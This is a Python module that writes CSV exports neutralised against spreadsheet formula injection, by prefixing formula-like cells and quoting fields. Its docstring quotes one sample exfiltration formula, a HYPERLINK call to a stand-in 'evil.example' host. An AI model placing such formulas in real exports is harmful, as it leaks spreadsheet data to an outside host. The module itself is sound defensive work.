"""Writing CSV that a spreadsheet shows as text and never runs as a formula.

The decisions export, a batch's results and a calibration can be read as CSV beside their
JSON (`?format=csv`, `--format csv`), and a CSV is mostly opened in Excel, LibreOffice or
Google Sheets. Those read a cell that starts with `=`, `+`, `-` or `@` as a formula (and
one starting with a tab or a carriage return after trimming it), so an `external_id` or a
reviewer's note such as `=HYPERLINK("https://evil.example/?"&A1)` would run on the
reviewer's machine. Every CSV the project writes goes through this module, which follows
OWASP's CSV injection guidance (and ASVS 1.2.10, which adds NUL): such a cell gets a
leading `'`, which spreadsheets show as text; fields with a comma, a quote or a line break
are quoted and quotes doubled (RFC 4180, 2.6 and 2.7). A cell that starts with `'` itself
gets one more, so a program reading the CSV gets every value back exactly by removing one
leading `'` wherever there is one.

Columns are the fields of the JSON rows, in the same order, under one header row: a null
is an empty cell, a boolean `true`/`false`, a number as JSON writes it, a list or an object
as compact JSON in one cell. Lines end with `\\n` (as pandas and most tools write them,
and as a terminal shows them). UTF-8, served as `text/csv; charset=utf-8`.

A top-level module beside app/json_lines.py, for the same reason: the API, the CLI and the
review export all write rows.
"""

from __future__ import annotations

import json
import re
from collections.abc import Mapping, Sequence
from typing import Any

CSV_MEDIA_TYPE = "text/csv; charset=utf-8"
# What a spreadsheet may read as the start of a formula (OWASP; NUL from ASVS 1.2.10).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\0")
# Prefixed too: then a leading `'` always means one was added, and removing it is exact.
PREFIXED = (*FORMULA_STARTS, "'")
# A field holding one of these is quoted (RFC 4180, 2.6).
_SPECIAL = re.compile('[,"\r\n]')


def neutralised(text: str) -> str:
    """`text`, with a leading `'` when it starts like a formula (so a spreadsheet shows it
    as text) or with a `'`; any other text as it is."""
    return "'" + text if text.startswith(PREFIXED) else text


def cell(value: Any) -> str:
    """One value of a JSON row as the text of its cell (see the module docstring)."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | float):
        # Our own numbers, never text from outside: a negative one stays a number.
        return json.dumps(value)
    if isinstance(value, str):
        return neutralised(value)
    return neutralised(json.dumps(value, ensure_ascii=False, separators=(",", ":")))


def csv_record(cells: Sequence[str]) -> bytes:
    """One CSV line (header or row) of cells already made text, UTF-8, `\\n` included."""
    line = ",".join(_quoted(text) for text in cells) + "\n"
    # A lone surrogate cannot be UTF-8: written as the `\ud800` escape JSON would show.
    return line.encode("utf-8", "backslashreplace")


def _quoted(text: str) -> str:
    # Written here rather than by the csv module: its writer leaves a field holding a bare
    # CR unquoted when lines end in "\n", and every reader then ends the row there.
    if _SPECIAL.search(text) is None:
        return text
    return '"' + text.replace('"', '""') + '"'


def csv_header(columns: Sequence[str]) -> bytes:
    return csv_record([neutralised(name) for name in columns])


def csv_row(columns: Sequence[str], row: Mapping[str, Any]) -> bytes:
    """The line of `row`'s values under `columns` (a missing field is an empty cell)."""
    return csv_record([cell(row.get(name)) for name in columns])


def csv_table(columns: Sequence[str], rows: Sequence[Mapping[str, Any]]) -> bytes:
    """A whole CSV: the header, then one line per row."""
    return csv_header(columns) + b"".join(csv_row(columns, row) for row in rows)
